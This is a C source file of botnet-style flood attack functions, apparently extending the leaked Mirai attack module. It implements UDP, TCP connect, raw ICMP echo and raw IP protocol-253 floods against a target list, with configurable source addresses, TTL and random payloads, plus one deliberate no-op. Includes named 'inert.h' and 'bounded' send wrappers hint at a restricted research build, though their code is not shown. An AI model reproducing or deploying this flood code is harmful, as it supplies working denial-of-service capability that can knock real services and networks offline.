/*
 * Attacks beyond the leaked ones: UDP on a connected socket, TCP connections, ICMP by sendmsg, a
 * protocol of no use, and one that sends nothing.
 */
#include "attack.h"

#include "inert.h"
#include "packet.h"
#include "util.h"

/* For experiments, RFC 3692. */
#define PROTOCOL_OTHER 253

#define ICMP_ECHO 8

/* The same packets as those of attack_udp_plain, from a socket that knows its destination. */
void attack_udp_connected(ATTACK_ARGUMENTS)
{
    int i;
    char *payload = calloc(PACKET_ROOM, 1);
    int *fds = calloc(target_count, sizeof(int));
    port_t destination_port = (port_t)INT_OPTION(UDPPLAIN, DESTINATION_PORT);
    port_t source_port = (port_t)INT_OPTION(UDPPLAIN, SOURCE_PORT);
    uint16_t size = (uint16_t)INT_OPTION(UDPPLAIN, PAYLOAD_SIZE);
    int random_payload = INT_OPTION(UDPPLAIN, PAYLOAD_RANDOM);
    if (size > MAXIMUM_PAYLOAD)
        size = MAXIMUM_PAYLOAD;
    for (i = 0; i < target_count; i++) {
        struct sockaddr_in from, to;
        util_zero(&from, sizeof(from));
        util_zero(&to, sizeof(to));
        if ((fds[i] = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
            return;
        from.sin_family = AF_INET;
        from.sin_port = source_port == 0xffff ? (port_t)rand_next() : htons(source_port);
        bind(fds[i], (struct sockaddr *)&from, sizeof(from));
        to.sin_family = AF_INET;
        to.sin_addr.s_addr = attack_draw_address(&targets[i]);
        to.sin_port = destination_port == 0xffff ? (port_t)rand_next() : htons(destination_port);
        bounded_connect(fds[i], &to);
    }
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            if (random_payload)
                rand_bytes(payload, size);
            bounded_stream_send(fds[i], payload, size);
        }
    }
}

void attack_tcp_connect(ATTACK_ARGUMENTS)
{
    port_t destination_port = (port_t)INT_OPTION(CONNECT, DESTINATION_PORT);
    int i;
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct sockaddr_in to;
            int fd = socket(AF_INET, SOCK_STREAM, 0);
            if (fd == -1)
                continue;
            util_zero(&to, sizeof(to));
            fcntl(fd, F_SETFL, O_NONBLOCK | fcntl(fd, F_GETFL, 0));
            to.sin_family = AF_INET;
            to.sin_addr.s_addr = attack_draw_address(&targets[i]);
            to.sin_port = destination_port == 0xffff ? (port_t)rand_next() : htons(destination_port);
            bounded_connect(fd, &to);
            close(fd);
        }
    }
}

struct ip_parameters {
    uint8_t tos;
    uint16_t ident;
    uint8_t ttl;
    int dont_fragment;
    int size;
    int random_payload;
    uint32_t source;
};

#define READ_IP_PARAMETERS(ATTACK)                                \
    struct ip_parameters with;                                    \
    with.tos = (uint8_t)INT_OPTION(ATTACK, TOS);                  \
    with.ident = (uint16_t)INT_OPTION(ATTACK, IDENT);             \
    with.ttl = (uint8_t)INT_OPTION(ATTACK, TTL);                  \
    with.dont_fragment = INT_OPTION(ATTACK, DONT_FRAGMENT);       \
    with.size = INT_OPTION(ATTACK, PAYLOAD_SIZE);                 \
    with.random_payload = INT_OPTION(ATTACK, PAYLOAD_RANDOM);     \
    with.source = ADDRESS_OPTION(SOURCE_ADDRESS, local_address);  \
    if (with.size > MAXIMUM_PAYLOAD)                              \
        with.size = MAXIMUM_PAYLOAD;

static void begin_ip(struct ip_header *ip, const struct ip_parameters *with, uint8_t protocol,
                     int carried)
{
    util_zero(ip, sizeof(struct ip_header));
    ip->version_length = 0x45;
    ip->tos = with->tos;
    ip->total = htons((uint16_t)(sizeof(struct ip_header) + (unsigned int)carried));
    ip->id = with->ident == 0xffff ? (uint16_t)rand_next() : htons(with->ident);
    if (with->dont_fragment)
        ip->fragment = htons(1 << 14);
    ip->ttl = with->ttl;
    ip->protocol = protocol;
    ip->source = with->source;
}

/* Echo requests; headers and payload are two parts of one message. */
void attack_icmp_echo(ATTACK_ARGUMENTS)
{
    struct {
        struct ip_header ip;
        struct icmp_header icmp;
        char payload[MAXIMUM_PAYLOAD];
    } PACKED *packet = calloc(1, sizeof(*packet));
    struct iovec parts[2];
    struct msghdr message;
    int i, fd, carried;
    READ_IP_PARAMETERS(ICMP)
    carried = (int)sizeof(struct icmp_header) + with.size;
    if ((fd = attack_raw_socket(IPPROTO_ICMP)) == -1)
        return;
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct sockaddr_in to;
            begin_ip(&packet->ip, &with, IPPROTO_ICMP, carried);
            packet->ip.destination = attack_draw_address(&targets[i]);
            packet->ip.checksum = checksum_generic(&packet->ip, sizeof(struct ip_header));
            packet->icmp.type = ICMP_ECHO;
            packet->icmp.code = 0;
            packet->icmp.id = (uint16_t)rand_next();
            packet->icmp.sequence = (uint16_t)rand_next();
            if (with.random_payload)
                rand_bytes(packet->payload, with.size);
            packet->icmp.checksum = 0;
            packet->icmp.checksum = checksum_generic(&packet->icmp, (uint32_t)carried);
            util_zero(&to, sizeof(to));
            to.sin_family = AF_INET;
            to.sin_addr.s_addr = packet->ip.destination;
            parts[0].iov_base = packet;
            parts[0].iov_len = sizeof(struct ip_header) + sizeof(struct icmp_header);
            parts[1].iov_base = packet->payload;
            parts[1].iov_len = (size_t)with.size;
            util_zero(&message, sizeof(message));
            message.msg_name = &to;
            message.msg_namelen = sizeof(to);
            message.msg_iov = parts;
            message.msg_iovlen = 2;
            bounded_message(fd, &message);
        }
    }
}

void attack_ip_other(ATTACK_ARGUMENTS)
{
    char *packet = calloc(PACKET_ROOM, 1);
    struct ip_header *ip = (struct ip_header *)packet;
    int i, fd;
    READ_IP_PARAMETERS(OTHER)
    if ((fd = attack_raw_socket(PROTOCOL_OTHER)) == -1)
        return;
    while (FLOODING) {
        for (i = 0; i < target_count; i++) {
            struct sockaddr_in to;
            begin_ip(ip, &with, PROTOCOL_OTHER, with.size);
            ip->destination = attack_draw_address(&targets[i]);
            ip->checksum = checksum_generic(ip, sizeof(struct ip_header));
            if (with.random_payload)
                rand_bytes((char *)(ip + 1), with.size);
            util_zero(&to, sizeof(to));
            to.sin_family = AF_INET;
            to.sin_addr.s_addr = ip->destination;
            bounded_send(fd, packet, (int)sizeof(struct ip_header) + with.size, &to);
        }
    }
}

/* What its numbers promise it does not do: it opens no socket. */
void attack_nothing(ATTACK_ARGUMENTS)
{
    uint16_t size = (uint16_t)INT_OPTION(NOTHING, PAYLOAD_SIZE);
    port_t destination_port = (port_t)INT_OPTION(NOTHING, DESTINATION_PORT);
    volatile uint32_t checked = 0;
    int i;
    for (i = 0; i < target_count; i++)
        checked += targets[i].addr ^ (uint32_t)size << 16 ^ destination_port;
}
